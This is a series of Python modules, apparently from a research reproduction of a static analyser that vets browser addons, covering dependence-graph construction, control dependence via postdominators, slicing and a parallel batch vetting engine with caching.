    for node in nodes:
        uses = _uses_of(rw_sets.of(node[0], node[1]))
        if not uses:
            continue
        reach = reach_in[node]
        if not reach:
            continue
        taint = taint_in[node]
        for use_location, read_strong in uses:
            for index in defs_by_bucket.get(_bucket_of(use_location), ()):
                bit = 1 << index
                if not (reach & bit):
                    continue
                def_location = def_locations[index]
                if not _locations_overlap(def_location, use_location):
                    continue
                is_strong = (
                    not (taint & bit)
                    and def_strong[index]
                    and read_strong
                    and _locations_exact_match(def_location, use_location)
                    and _locations_exact_match(use_location, def_location)
                )
                pair = (def_nodes[index][0], node[0])
                if is_strong:
                    strong_pairs.add(pair)
                else:
                    weak_pairs.add(pair)

    edges: dict[tuple[int, int], Annotation] = {}
    for pair in strong_pairs:
        if pair not in weak_pairs:
            edges[pair] = Annotation.DATA_STRONG
    for pair in weak_pairs:
        edges[pair] = Annotation.DATA_WEAK
    return DDGResult(edges=edges)
