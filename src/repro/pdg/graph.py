"""The annotated Program Dependence Graph: DDG ∪ CDG.

Nodes are IR statements; each edge carries one annotation from the
grammar of Section 3.1. The PDG also keeps the statement -> source line
mapping so results can be reported in terms of the addon's source (and so
the Figure 1/2 reproduction can check edges by line number).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.interpreter import AnalysisResult
from repro.analysis.readwrite import ReadWriteSets
from repro.ir.nodes import ProgramIR
from repro.pdg.annotations import Annotation
from repro.pdg.cdg import build_cdg
from repro.pdg.ddg import build_ddg
from repro.pdg.icfg import build_icfg, cyclic_statements


@dataclass
class PDG:
    """The annotated program dependence graph."""

    program: ProgramIR
    #: (source sid, target sid) -> annotations (an edge pair may carry
    #: both a data and a control annotation).
    edges: dict[tuple[int, int], set[Annotation]] = field(default_factory=dict)
    #: Statement ids on an ICFG cycle (used by amplification; exposed for
    #: diagnostics and tests).
    cyclic: set[int] = field(default_factory=set)

    # Lazily built adjacency views, shared by ``successors``, the
    # flow-type fixpoint (one build serves every source), reachability,
    # and slicing. Pure memoization of ``edges``: ``add_edge``
    # invalidates both, so the indexes can never go stale.
    _successor_index: dict[int, list[tuple[int, set[Annotation]]]] | None = field(
        default=None, init=False, repr=False, compare=False
    )
    _predecessor_index: dict[int, list[tuple[int, set[Annotation]]]] | None = field(
        default=None, init=False, repr=False, compare=False
    )

    def add_edge(self, source: int, target: int, annotation: Annotation) -> None:
        self.edges.setdefault((source, target), set()).add(annotation)
        self._successor_index = None
        self._predecessor_index = None

    def successor_index(self) -> dict[int, list[tuple[int, set[Annotation]]]]:
        """source sid -> [(target sid, annotations)], built once and
        cached until the edge set changes."""
        if self._successor_index is None:
            index: dict[int, list[tuple[int, set[Annotation]]]] = {}
            for (source, target), annotations in self.edges.items():
                index.setdefault(source, []).append((target, annotations))
            self._successor_index = index
        return self._successor_index

    def predecessor_index(self) -> dict[int, list[tuple[int, set[Annotation]]]]:
        """target sid -> [(source sid, annotations)]; the backward-slice
        counterpart of :meth:`successor_index`."""
        if self._predecessor_index is None:
            index: dict[int, list[tuple[int, set[Annotation]]]] = {}
            for (source, target), annotations in self.edges.items():
                index.setdefault(target, []).append((source, annotations))
            self._predecessor_index = index
        return self._predecessor_index

    def successors(self, sid: int) -> list[tuple[int, set[Annotation]]]:
        return self.successor_index().get(sid, [])

    def predecessors(self, sid: int) -> list[tuple[int, set[Annotation]]]:
        return self.predecessor_index().get(sid, [])

    def annotations(self, source: int, target: int) -> set[Annotation]:
        return self.edges.get((source, target), set())

    # ------------------------------------------------------------------
    # Line-level views (for reproducing Figure 2 and for reporting)

    def line_of(self, sid: int) -> int:
        return self.program.stmts[sid].line

    def line_edges(self) -> dict[tuple[int, int], set[Annotation]]:
        """Edges projected onto source lines; self-loops and synthetic
        statements (line 0: entry/exit markers) dropped."""
        projected: dict[tuple[int, int], set[Annotation]] = {}
        for (source, target), annotations in self.edges.items():
            line_pair = (self.line_of(source), self.line_of(target))
            if line_pair[0] == line_pair[1] or 0 in line_pair:
                continue
            projected.setdefault(line_pair, set()).update(annotations)
        return projected

    def line_annotations(self, source_line: int, target_line: int) -> set[Annotation]:
        result: set[Annotation] = set()
        for (source, target), annotations in self.edges.items():
            if self.line_of(source) == source_line and self.line_of(target) == target_line:
                result.update(annotations)
        return result

    def reachable_from(
        self, sources: set[int], allowed: frozenset[Annotation]
    ) -> set[int]:
        """Statements reachable from ``sources`` using only edges whose
        annotation set intersects ``allowed``."""
        seen = set(sources)
        stack = list(sources)
        adjacency = self.successor_index()
        while stack:
            node = stack.pop()
            for successor, annotations in adjacency.get(node, ()):
                if successor not in seen and annotations & allowed:
                    seen.add(successor)
                    stack.append(successor)
        return seen

    # ------------------------------------------------------------------
    # Export

    def to_dot(self, include_isolated: bool = False) -> str:
        """Graphviz rendering (data edges solid, control edges dashed,
        amplified edges bold)."""
        lines = ["digraph pdg {", "  node [shape=box, fontname=monospace];"]
        used: set[int] = set()
        for (source, target) in self.edges:
            used.add(source)
            used.add(target)
        sids = self.program.stmts.keys() if include_isolated else sorted(used)
        for sid in sids:
            stmt = self.program.stmts[sid]
            label = f"{sid}: line {stmt.line}\\n{type(stmt).__name__}"
            lines.append(f'  n{sid} [label="{label}"];')
        for (source, target), annotations in sorted(self.edges.items()):
            for annotation in sorted(annotations, key=lambda a: a.value):
                style = "solid" if annotation.is_data else "dashed"
                weight = ", penwidth=2" if annotation.is_amplified else ""
                lines.append(
                    f'  n{source} -> n{target} '
                    f'[label="{annotation}", style={style}{weight}];'
                )
        lines.append("}")
        return "\n".join(lines)


def build_pdg(result: AnalysisResult) -> PDG:
    """Phase P2: construct the annotated PDG from the base analysis."""
    icfg = build_icfg(result)
    cyclic = cyclic_statements(icfg)
    rw_sets = ReadWriteSets(result)

    pdg = PDG(program=result.program, cyclic=cyclic)
    ddg = build_ddg(result, icfg, rw_sets)
    for (source, target), annotation in ddg.edges.items():
        pdg.add_edge(source, target, annotation)
    cdg = build_cdg(result, cyclic_sids=cyclic)
    for (source, target), annotation in cdg.edges.items():
        pdg.add_edge(source, target, annotation)
    return pdg
