"""Postdominators and control dependence (Ferrante–Ottenstein–Warren).

Control dependence is computed per function, per pruned-CFG view, using
the classic recipe:

1. augment the view so every node reaches the exit (dead ends fall back
   to their structured successor, or get a virtual edge to the exit) and
   every node is reachable from the entry (the paper: "we add a new edge
   in the pruned CFG from the entry to any such node"),
2. add the virtual ``entry -> exit`` edge, which makes statements that do
   not postdominate the entry control-dependent *on the entry* — the hook
   the interprocedural edges (call site -> callee entry) attach to,
3. compute immediate postdominators with the iterative Cooper–Harvey–
   Kennedy algorithm on the reverse graph,
4. for each CFG edge ``a -> b`` where ``b`` does not postdominate ``a``,
   mark every node on the postdominator-tree path from ``b`` up to (but
   excluding) ``ipdom(a)`` as control-dependent on ``a``.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass
class Digraph:
    """A small adjacency-list digraph over statement ids."""

    nodes: list[int]
    succs: dict[int, list[int]]

    def add_edge(self, source: int, target: int) -> None:
        targets = self.succs.setdefault(source, [])
        if target not in targets:
            targets.append(target)

    def reachable_from(self, root: int) -> set[int]:
        seen: set[int] = set()
        stack = [root]
        while stack:
            node = stack.pop()
            if node in seen:
                continue
            seen.add(node)
            stack.extend(self.succs.get(node, ()))
        return seen

    def reversed(self) -> "Digraph":
        preds: dict[int, list[int]] = {node: [] for node in self.nodes}
        for source, targets in self.succs.items():
            for target in targets:
                preds.setdefault(target, []).append(source)
        return Digraph(list(self.nodes), preds)


def augment_for_control_dependence(
    graph: Digraph, entry: int, exit_node: int
) -> Digraph:
    """Make every node reachable from entry and able to reach exit, and
    add the virtual entry->exit edge (step 1 and 2 above)."""
    augmented = Digraph(list(graph.nodes), {n: list(graph.succs.get(n, [])) for n in graph.nodes})
    reachable = augmented.reachable_from(entry)
    for node in augmented.nodes:
        if node not in reachable:
            augmented.add_edge(entry, node)
    # Dead ends (other than exit) get a virtual edge to exit so the
    # postdominator tree is total. Nodes that reach only cycles do too.
    reaches_exit = _nodes_reaching(augmented, exit_node)
    for node in augmented.nodes:
        if node != exit_node and node not in reaches_exit:
            augmented.add_edge(node, exit_node)
            reaches_exit.add(node)
    augmented.add_edge(entry, exit_node)
    return augmented


def _nodes_reaching(graph: Digraph, target: int) -> set[int]:
    reverse = graph.reversed()
    return reverse.reachable_from(target)


def immediate_dominators(graph: Digraph, root: int) -> dict[int, int]:
    """Cooper–Harvey–Kennedy iterative dominators of ``graph`` from
    ``root``. Call with the reversed CFG to get postdominators."""
    order: list[int] = []
    visited: set[int] = set()
    # Iterative DFS for reverse postorder.
    stack: list[tuple[int, int]] = [(root, 0)]
    visited.add(root)
    while stack:
        node, child_index = stack.pop()
        children = graph.succs.get(node, [])
        if child_index < len(children):
            stack.append((node, child_index + 1))
            child = children[child_index]
            if child not in visited:
                visited.add(child)
                stack.append((child, 0))
        else:
            order.append(node)
    order.reverse()  # reverse postorder
    index_of = {node: position for position, node in enumerate(order)}

    preds = graph.reversed().succs
    idom: dict[int, int] = {root: root}

    def intersect(a: int, b: int) -> int:
        while a != b:
            while index_of[a] > index_of[b]:
                a = idom[a]
            while index_of[b] > index_of[a]:
                b = idom[b]
        return a

    changed = True
    while changed:
        changed = False
        for node in order:
            if node == root:
                continue
            candidates = [
                pred for pred in preds.get(node, []) if pred in idom
            ]
            if not candidates:
                continue
            new_idom = candidates[0]
            for pred in candidates[1:]:
                new_idom = intersect(new_idom, pred)
            if idom.get(node) != new_idom:
                idom[node] = new_idom
                changed = True
    return idom


def control_dependence(
    graph: Digraph, entry: int, exit_node: int
) -> set[tuple[int, int]]:
    """All control-dependence pairs ``(controller, dependent)`` of the
    (already pruned) CFG ``graph``."""
    augmented = augment_for_control_dependence(graph, entry, exit_node)
    ipdom = immediate_dominators(augmented.reversed(), exit_node)

    dependences: set[tuple[int, int]] = set()
    for source, targets in augmented.succs.items():
        if source not in ipdom:
            continue
        stop = ipdom[source]
        for target in targets:
            walker = target
            while walker != stop and walker in ipdom:
                if walker != source:
                    dependences.add((source, walker))
                if walker == ipdom.get(walker):
                    break
                walker = ipdom[walker]
    return dependences
