"""The annotated control dependence graph (Section 3.3).

Constructed in the paper's four stages, per function:

1. **local** — control dependence over the *structured* CFG (all
   non-local edges removed; jumps fall through to their structured
   successor);
2. **nonlocexp** — control dependence over the CFG with explicit jumps
   restored (implicit-exception edges still removed), minus stage 1;
3. **nonlocimp** — control dependence over the full CFG (implicit edges
   included only for statements the base analysis says may actually
   throw), minus stages 1 and 2;
4. **amplification** — any control edge whose source lies on an ICFG
   cycle (loop, recursion, or the event loop) becomes ``ctrl^amp``.

Edges due to *uncaught* exceptions are omitted throughout (an uncaught
throw has no handler edge and falls back to its structured successor in
every view), matching the paper: uncaught exceptions terminate the addon
and termination leaks are out of scope.

Interprocedural control dependence: a callee's entry statement is
control-dependent on each call site that may invoke it (annotated
``local`` — amplified like any other edge if the call site sits in a
cycle, which is how code inside event handlers gets ``local^amp``).
Within a function, statements executing unconditionally depend on the
function entry (via the virtual entry->exit edge of the FOW
construction), so paths source -> ... -> call -> entry -> statement exist
in the PDG.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.interpreter import AnalysisResult
from repro.ir.cfg import Mode, statement_successors
from repro.ir.nodes import EdgeKind, ExitStmt, FunctionIR
from repro.pdg.annotations import Annotation
from repro.pdg.postdom import Digraph, control_dependence


@dataclass
class CDGResult:
    """Statement-level control dependence edges with annotations."""

    edges: dict[tuple[int, int], Annotation]


def _view_digraph(
    function: FunctionIR, mode: Mode, throwing: frozenset[int]
) -> Digraph:
    """The pruned CFG of one function under ``mode``, with uncaught
    throws falling back to their structured successor (so they induce no
    control dependence — the paper's omission)."""
    nodes = [stmt.sid for stmt in function.statements]
    succs: dict[int, list[int]] = {}
    for stmt in function.statements:
        targets = statement_successors(stmt, mode, throwing)
        if not targets and not isinstance(stmt, ExitStmt):
            targets = [
                e.target for e in stmt.edges if e.kind is EdgeKind.FALLTHROUGH
            ]
        succs[stmt.sid] = targets
    return Digraph(nodes, succs)


def build_cdg(
    result: AnalysisResult, cyclic_sids: set[int] | None = None
) -> CDGResult:
    """Run the four-stage construction over every function."""
    program = result.program
    edges: dict[tuple[int, int], Annotation] = {}

    for function in program.functions.values():
        entry, exit_node = function.entry.sid, function.exit.sid

        stage1 = control_dependence(
            _view_digraph(function, Mode.STRUCTURED, result.throwing),
            entry, exit_node,
        )
        stage2 = control_dependence(
            _view_digraph(function, Mode.NO_IMPLICIT, result.throwing),
            entry, exit_node,
        )
        stage3 = control_dependence(
            _view_digraph(function, Mode.FULL, result.throwing),
            entry, exit_node,
        )

        for pair in stage1:
            edges[pair] = Annotation.LOCAL
        for pair in stage2 - stage1:
            edges[pair] = Annotation.NONLOC_EXP
        for pair in stage3 - stage2 - stage1:
            edges[pair] = Annotation.NONLOC_IMP

    # Interprocedural: callee entries depend on their call sites.
    for (call_sid, _ctx), targets in result.call_edges.items():
        for fid, _callee_ctx in targets:
            entry_sid = program.functions[fid].entry.sid
            edges.setdefault((call_sid, entry_sid), Annotation.LOCAL)

    # Stage 4: amplify edges whose source is on a cycle.
    if cyclic_sids:
        edges = {
            (source, target): (
                annotation.amplified() if source in cyclic_sids else annotation
            )
            for (source, target), annotation in edges.items()
        }
    return CDGResult(edges=edges)
