"""Program slicing over the annotated PDG.

The paper notes its annotated PDG "can be more generally useful, e.g.,
for program slicing, code obfuscation, code compression, and various
code optimizations". This module provides the slicing application:

- :func:`backward_slice` — everything a statement (transitively) depends
  on: the classic "why does this statement compute what it computes"
  query a vetter asks about a suspicious network send;
- :func:`forward_slice` — everything influenced by a statement: "where
  does this value go";
- both take an ``allowed`` annotation filter, so a vetter can ask for
  the *data-only* slice (ignore control context), the strong slice
  (``datastrong`` edges only), or any other sub-PDG the flow-type
  lattice talks about;
- :func:`slice_lines` — the source-line projection used for display.
"""

from __future__ import annotations

from repro.pdg.annotations import Annotation
from repro.pdg.graph import PDG

#: All eight annotations: the default (full) slice.
ALL_ANNOTATIONS = frozenset(Annotation)

#: Data-dependence-only slicing (taint-style).
DATA_ONLY = frozenset({Annotation.DATA_STRONG, Annotation.DATA_WEAK})


def backward_slice(
    pdg: PDG,
    criteria: set[int],
    allowed: frozenset[Annotation] = ALL_ANNOTATIONS,
) -> set[int]:
    """Statements the criteria depend on, through ``allowed`` edges.

    The criteria statements are part of their own slice (the classic
    definition).
    """
    predecessors = pdg.predecessor_index()
    seen = set(criteria)
    stack = list(criteria)
    while stack:
        node = stack.pop()
        for predecessor, annotations in predecessors.get(node, ()):
            if predecessor not in seen and annotations & allowed:
                seen.add(predecessor)
                stack.append(predecessor)
    return seen


def forward_slice(
    pdg: PDG,
    criteria: set[int],
    allowed: frozenset[Annotation] = ALL_ANNOTATIONS,
) -> set[int]:
    """Statements the criteria may influence, through ``allowed`` edges."""
    return pdg.reachable_from(criteria, allowed)


def statements_on_line(pdg: PDG, line: int) -> set[int]:
    """All statement ids lowered from the given source line."""
    return {
        sid for sid, stmt in pdg.program.stmts.items() if stmt.line == line
    }


def slice_lines(pdg: PDG, sliced: set[int]) -> list[int]:
    """The source lines of a slice, sorted, synthetic statements
    excluded."""
    lines = {
        pdg.program.stmts[sid].line
        for sid in sliced
        if pdg.program.stmts[sid].line > 0
    }
    return sorted(lines)


def backward_slice_of_line(
    pdg: PDG,
    line: int,
    allowed: frozenset[Annotation] = ALL_ANNOTATIONS,
) -> list[int]:
    """Convenience: the source-line backward slice of a source line."""
    return slice_lines(pdg, backward_slice(pdg, statements_on_line(pdg, line), allowed))


def forward_slice_of_line(
    pdg: PDG,
    line: int,
    allowed: frozenset[Annotation] = ALL_ANNOTATIONS,
) -> list[int]:
    """Convenience: the source-line forward slice of a source line."""
    return slice_lines(pdg, forward_slice(pdg, statements_on_line(pdg, line), allowed))
