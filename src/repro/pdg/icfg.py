"""The context-sensitive interprocedural CFG.

Nodes are ``(statement id, context)`` pairs that the base analysis found
reachable; edges are

- the intraprocedural FULL-view edges (implicit-exception edges filtered
  by the analysis's ``throwing`` set), within one context,
- call edges: call statement -> callee entry under the pushed context,
- return edges: callee exit -> the call statement's SEQ successors under
  the caller context.

Calls with known callees do *not* fall through directly — flow must pass
through the callee — except when the call may also dispatch to a native
or stay unresolved, in which case the direct successor edge is kept.

This graph is what the paper calls "a context-sensitive interprocedural
control flow graph (CFG), with one node per statement per context". The
DDG's reaching-definitions run over it, and its cycles (loops, recursion,
and the event loop) define the ``amp`` annotation of Section 3.1.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.contexts import Context
from repro.analysis.interpreter import AnalysisResult
from repro.ir.cfg import Mode, statement_successors
from repro.ir.nodes import CallStmt, ConstructStmt, EdgeKind, EventLoopStmt

Node = tuple[int, Context]


@dataclass
class ICFG:
    """Materialized interprocedural CFG."""

    nodes: list[Node]
    succs: dict[Node, list[Node]] = field(default_factory=dict)
    preds: dict[Node, list[Node]] = field(default_factory=dict)
    #: Edge membership, for O(1) duplicate suppression in ``add_edge``;
    #: the lists above keep insertion order (downstream determinism).
    _edges: set[tuple[Node, Node]] = field(default_factory=set)

    def add_edge(self, source: Node, target: Node) -> None:
        edge = (source, target)
        if edge not in self._edges:
            self._edges.add(edge)
            self.succs.setdefault(source, []).append(target)
            self.preds.setdefault(target, []).append(source)

    def successors(self, node: Node) -> list[Node]:
        return self.succs.get(node, [])

    def predecessors(self, node: Node) -> list[Node]:
        return self.preds.get(node, [])


def build_icfg(result: AnalysisResult) -> ICFG:
    """Assemble the ICFG from the base analysis result."""
    program = result.program
    nodes = list(result.states.keys())
    node_set = set(nodes)
    icfg = ICFG(nodes=nodes)

    for sid, context in nodes:
        stmt = program.stmts[sid]
        node = (sid, context)

        is_call = isinstance(stmt, (CallStmt, ConstructStmt, EventLoopStmt))
        callees = result.call_edges.get(node, set()) if is_call else set()

        # A call with closure callees detours through them; it keeps its
        # direct successor edges only if it may also run natively (or was
        # unresolved), or is the event loop (handlers may not fire).
        keep_direct = (
            not is_call
            or not callees
            or isinstance(stmt, EventLoopStmt)
            or sid in result.unknown_callees
            or bool(result.callee_native_tags(sid))
        )
        if keep_direct:
            for target in statement_successors(stmt, Mode.FULL, result.throwing):
                target_node = (target, context)
                if target_node in node_set:
                    icfg.add_edge(node, target_node)
        else:
            # Even with a mandatory detour, implicit-exception edges fire
            # before the call (callee may not be a function).
            for edge in stmt.edges:
                if edge.kind is EdgeKind.IMPLICIT and sid in result.throwing:
                    target_node = (edge.target, context)
                    if target_node in node_set:
                        icfg.add_edge(node, target_node)

        for fid, callee_context in callees:
            entry_node = (program.functions[fid].entry.sid, callee_context)
            if entry_node in node_set:
                icfg.add_edge(node, entry_node)
            exit_node = (program.functions[fid].exit.sid, callee_context)
            if exit_node in node_set:
                # Returns resume at the call's normal (SEQ) successors.
                for edge in stmt.edges:
                    if edge.kind is EdgeKind.SEQ:
                        return_node = (edge.target, context)
                        if return_node in node_set:
                            icfg.add_edge(exit_node, return_node)
    return icfg


def cyclic_statements(icfg: ICFG) -> set[int]:
    """Statement ids contained in some ICFG cycle — loops, recursion, or
    the event loop. These are the sources whose control edges the CDG
    construction amplifies (stage 4 of Section 3.3)."""
    from repro.ir.cfg import nodes_in_cycles

    # nodes_in_cycles works over hashable node ids; map Node <-> int.
    index_of = {node: index for index, node in enumerate(icfg.nodes)}
    succs = {
        index_of[node]: [index_of[t] for t in targets if t in index_of]
        for node, targets in icfg.succs.items()
    }
    cyclic = nodes_in_cycles(list(index_of.values()), succs)
    return {icfg.nodes[index][0] for index in cyclic}
