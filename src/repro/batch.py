"""The parallel corpus vetting engine.

Batch-mode static vetting makes the corpus dimension embarrassingly
parallel: every addon's pipeline (P1 base analysis, P2 annotated PDG, P3
signature inference) is independent of every other addon's, so
:func:`vet_many` fans the corpus out over a ``ProcessPoolExecutor`` with

- **per-addon isolation** — a parse error, an
  :class:`~repro.analysis.interpreter.AnalysisBudgetExceeded`, or a
  wall-clock timeout in one addon degrades to a reported error outcome;
  it never kills the batch;
- **an on-disk result cache** keyed by ``(sha256(source), k, spec
  fingerprint, engine/repro version)`` — re-vetting an unchanged addon
  under an unchanged policy is a cache hit, which is what makes a
  vetting *service* cheap under heavy re-submission traffic;
- **deterministic outcomes** — a :class:`VetOutcome` is a compact,
  JSON-serializable summary (canonical signature text, verdict, phase
  times, hot-path counters), so parallel, sequential, and cached runs
  are directly comparable (and tested to be identical).

The evaluation harness (Table 1/2, the timing protocol, ``addon-sig
bench``) is built on this engine; :func:`vet_corpus` is the
corpus-shaped convenience entry.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import tempfile
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures import TimeoutError as FutureTimeoutError
from dataclasses import dataclass, field
from pathlib import Path

import repro
from repro.perf import median_times
from repro.signatures.spec import SecuritySpec

#: Bump when the pipeline's observable output changes (invalidates every
#: cached outcome, together with ``repro.__version__``).
ENGINE_VERSION = 1


# ----------------------------------------------------------------------
# Tasks and outcomes


@dataclass(frozen=True)
class VetTask:
    """One unit of batch vetting work (picklable, immutable)."""

    name: str
    source: str
    k: int = 1
    #: Timing runs; with ``runs > 1`` the first run is discarded and the
    #: per-phase median of the rest is reported (the paper's protocol).
    runs: int = 1
    #: Manual signature text to compare against (Table 2 methodology).
    manual_text: str | None = None
    real_extras_text: str = ""


@dataclass
class VetOutcome:
    """The compact, serializable result of vetting one addon."""

    name: str
    ok: bool
    error: str | None = None
    #: Canonical (sorted) rendering of the inferred signature.
    signature_text: str = ""
    verdict: str | None = None
    extra_entries: list[str] = field(default_factory=list)
    missing_entries: list[str] = field(default_factory=list)
    ast_nodes: int = 0
    #: Median phase times in seconds: {"p1": ..., "p2": ..., "p3": ...}.
    times: dict[str, float] | None = None
    #: Hot-path counters of the (last) run.
    counters: dict[str, int] = field(default_factory=dict)
    #: True when this outcome was served from the on-disk cache.
    cached: bool = False

    @property
    def total_time(self) -> float:
        return sum((self.times or {}).values())

    def to_json(self) -> dict:
        data = dataclasses.asdict(self)
        data.pop("cached")  # a property of the lookup, not the result
        return data

    @classmethod
    def from_json(cls, data: dict, cached: bool = False) -> "VetOutcome":
        known = {f.name for f in dataclasses.fields(cls)}
        outcome = cls(**{k: v for k, v in data.items() if k in known})
        outcome.cached = cached
        return outcome


# ----------------------------------------------------------------------
# Cache


def default_cache_dir() -> Path:
    """``$ADDON_SIG_CACHE`` > ``$XDG_CACHE_HOME/addon-sig`` >
    ``~/.cache/addon-sig``."""
    override = os.environ.get("ADDON_SIG_CACHE")
    if override:
        return Path(override)
    xdg = os.environ.get("XDG_CACHE_HOME")
    base = Path(xdg) if xdg else Path.home() / ".cache"
    return base / "addon-sig"


def _canonical(obj: object) -> object:
    """A deterministic, JSON-able projection of a (frozen-dataclass)
    security spec — frozensets sorted, dataclasses tagged by class."""
    if dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        return [
            type(obj).__name__,
            {
                f.name: _canonical(getattr(obj, f.name))
                for f in dataclasses.fields(obj)
            },
        ]
    if isinstance(obj, (set, frozenset)):
        return sorted(_canonical(item) for item in obj)  # type: ignore[type-var]
    if isinstance(obj, (list, tuple)):
        return [_canonical(item) for item in obj]
    return obj


def spec_fingerprint(spec: SecuritySpec | None) -> str:
    """A stable hash of a security spec (``None`` = the default Mozilla
    spec, fingerprinted by name so the default can evolve with the
    version stamp rather than an import)."""
    if spec is None:
        return "mozilla-default"
    payload = json.dumps(_canonical(spec), sort_keys=True)
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def cache_key(task: VetTask, spec: SecuritySpec | None) -> str:
    """The on-disk cache key: source bytes, sensitivity, spec, manual
    comparison inputs, timing protocol, and the code version."""
    payload = json.dumps(
        {
            "engine": ENGINE_VERSION,
            "repro": repro.__version__,
            "source": hashlib.sha256(task.source.encode("utf-8")).hexdigest(),
            "k": task.k,
            "runs": task.runs,
            "spec": spec_fingerprint(spec),
            "manual": task.manual_text,
            "extras": task.real_extras_text,
        },
        sort_keys=True,
    )
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def _cache_load(cache_dir: Path, key: str, name: str) -> VetOutcome | None:
    path = cache_dir / f"{key}.json"
    try:
        data = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return None  # absent or corrupt: treat as a miss
    outcome = VetOutcome.from_json(data, cached=True)
    outcome.name = name  # the same source may be vetted under any name
    return outcome


def _cache_store(cache_dir: Path, key: str, outcome: VetOutcome) -> None:
    try:
        cache_dir.mkdir(parents=True, exist_ok=True)
        # Atomic publish: never expose a half-written entry.
        fd, tmp_path = tempfile.mkstemp(dir=cache_dir, suffix=".tmp")
        with os.fdopen(fd, "w", encoding="utf-8") as handle:
            json.dump(outcome.to_json(), handle)
        os.replace(tmp_path, cache_dir / f"{key}.json")
    except OSError:
        pass  # a read-only cache directory must not fail the batch


# ----------------------------------------------------------------------
# Workers (module-level: picklable for the process pool)


def _execute_task(task: VetTask, spec: SecuritySpec | None) -> VetOutcome:
    """Vet one addon, with the paper's timing protocol when ``runs > 1``.
    Never raises: every failure becomes an error outcome."""
    from repro.api import vet
    from repro.signatures import parse_signature

    try:
        manual = (
            parse_signature(task.manual_text)
            if task.manual_text is not None
            else None
        )
        extras = (
            frozenset(parse_signature(task.real_extras_text).entries)
            if task.real_extras_text
            else frozenset()
        )
        samples = []
        report = None
        for _ in range(max(1, task.runs)):
            report = vet(
                task.source, manual=manual, real_extras=extras,
                spec=spec, k=task.k,
            )
            samples.append(report.phase_times)
        assert report is not None and report.phase_times is not None
        times = median_times(samples)
        comparison = report.comparison
        return VetOutcome(
            name=task.name,
            ok=True,
            signature_text=report.signature.render(),
            verdict=comparison.verdict.value if comparison is not None else None,
            extra_entries=(
                sorted(entry.render() for entry in comparison.extra)
                if comparison is not None else []
            ),
            missing_entries=(
                sorted(entry.render() for entry in comparison.missing)
                if comparison is not None else []
            ),
            ast_nodes=report.ast_nodes,
            times={"p1": times.p1, "p2": times.p2, "p3": times.p3},
            counters=dict(report.counters),
        )
    except Exception as exc:  # isolation: one bad addon never kills a batch
        return VetOutcome(
            name=task.name, ok=False, error=f"{type(exc).__name__}: {exc}"
        )


def _parallel_map_worker(payload: tuple) -> object:
    fn, item = payload
    return fn(item)


# ----------------------------------------------------------------------
# The engine


def _normalize(items, k: int, runs: int) -> list[VetTask]:
    tasks: list[VetTask] = []
    for index, item in enumerate(items):
        if isinstance(item, VetTask):
            tasks.append(item)
        else:
            tasks.append(VetTask(name=f"addon-{index}", source=item, k=k, runs=runs))
    return tasks


def _resolve_workers(workers: int | None, pending: int) -> int:
    if workers is not None:
        return max(1, workers)
    return max(1, min(pending, os.cpu_count() or 1))


def vet_many(
    items,
    *,
    spec: SecuritySpec | None = None,
    k: int = 1,
    runs: int = 1,
    workers: int | None = None,
    use_cache: bool = True,
    cache_dir: str | os.PathLike | None = None,
    timeout: float | None = None,
) -> list[VetOutcome]:
    """Vet many addons, in parallel, with caching and error isolation.

    ``items`` — :class:`VetTask` objects, or plain source strings (named
    ``addon-N``; ``k``/``runs`` apply to string items only).
    ``workers`` — process count; ``None`` = one per CPU (capped at the
    task count); ``1`` = run in-process (no pool).
    ``timeout`` — per-addon wall-clock budget in seconds, enforced only
    when a pool is used (in-process runs rely on the interpreter's step
    budget); a timed-out addon yields an error outcome.

    Returns one outcome per item, in input order.
    """
    tasks = _normalize(items, k=k, runs=runs)
    directory = Path(cache_dir) if cache_dir is not None else default_cache_dir()

    outcomes: dict[int, VetOutcome] = {}
    pending: list[tuple[int, VetTask, str | None]] = []
    for index, task in enumerate(tasks):
        key = cache_key(task, spec) if use_cache else None
        if key is not None:
            hit = _cache_load(directory, key, task.name)
            if hit is not None:
                outcomes[index] = hit
                continue
        pending.append((index, task, key))

    if pending:
        worker_count = _resolve_workers(workers, len(pending))
        # A single miss runs in-process — unless a wall-clock timeout is
        # requested, which only a worker process can enforce.
        if worker_count <= 1 or (len(pending) <= 1 and timeout is None):
            fresh = [(index, key, _execute_task(task, spec))
                     for index, task, key in pending]
        else:
            fresh = _run_pool(pending, spec, worker_count, timeout)
        for index, key, outcome in fresh:
            outcomes[index] = outcome
            if key is not None and outcome.ok:
                _cache_store(directory, key, outcome)

    return [outcomes[index] for index in range(len(tasks))]


def _run_pool(
    pending: list[tuple[int, VetTask, str | None]],
    spec: SecuritySpec | None,
    worker_count: int,
    timeout: float | None,
) -> list[tuple[int, str | None, VetOutcome]]:
    """Fan pending tasks over a process pool; degrade per-task failures
    (timeout, broken pool) to error outcomes, and fall back to in-process
    execution if the pool cannot be used at all."""
    results: list[tuple[int, str | None, VetOutcome]] = []
    try:
        executor = ProcessPoolExecutor(max_workers=worker_count)
    except (OSError, ValueError):  # no fork/semaphores available here
        return [(index, key, _execute_task(task, spec))
                for index, task, key in pending]
    try:
        futures = [
            (index, task, key, executor.submit(_execute_task, task, spec))
            for index, task, key in pending
        ]
        for index, task, key, future in futures:
            try:
                results.append((index, key, future.result(timeout=timeout)))
            except FutureTimeoutError:
                future.cancel()
                results.append((
                    index, key,
                    VetOutcome(
                        name=task.name, ok=False,
                        error=f"timeout: exceeded {timeout}s wall-clock budget",
                    ),
                ))
            except Exception as exc:  # e.g. BrokenProcessPool
                results.append((
                    index, key,
                    VetOutcome(
                        name=task.name, ok=False,
                        error=f"{type(exc).__name__}: {exc}",
                    ),
                ))
    finally:
        # Don't block on workers wedged past their timeout.
        executor.shutdown(wait=timeout is None, cancel_futures=True)
    return results


def vet_corpus(
    specs=None,
    *,
    k: int = 1,
    runs: int = 1,
    workers: int | None = None,
    use_cache: bool = True,
    cache_dir: str | os.PathLike | None = None,
    timeout: float | None = None,
) -> list[VetOutcome]:
